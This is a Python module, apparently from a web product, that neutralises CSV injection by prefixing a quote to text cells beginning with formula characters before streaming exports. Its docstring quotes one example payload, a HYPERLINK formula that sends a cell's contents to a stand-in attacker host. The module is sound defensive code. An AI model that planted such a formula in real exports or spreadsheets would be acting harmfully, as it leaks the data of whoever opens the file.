"""Every CSV the product hands out is written through here, so no cell can run as a spreadsheet formula.

Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell whose text starts with `=`, `+`,
`-` or `@` as a formula, and some also after a leading tab or carriage return: an agent named
`=HYPERLINK("https://evil.example/?"&A1,"Open")` would become a live link, or worse, in the
account admin's spreadsheet (CSV injection, OWASP). Such text cells get a leading `'`, which the
spreadsheet shows as plain text. Numbers are written as they are: `-3` is a number, not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """One cell made safe: None is empty, text that a spreadsheet would evaluate is quoted with `'`."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class _Echo:
    """A file-like object whose write returns the line, so rows can be streamed one by one."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The header then each row as a CSV line, every cell through `csv_cell`: for StreamingHttpResponse."""
    writer = csv.writer(_Echo())
    yield writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])
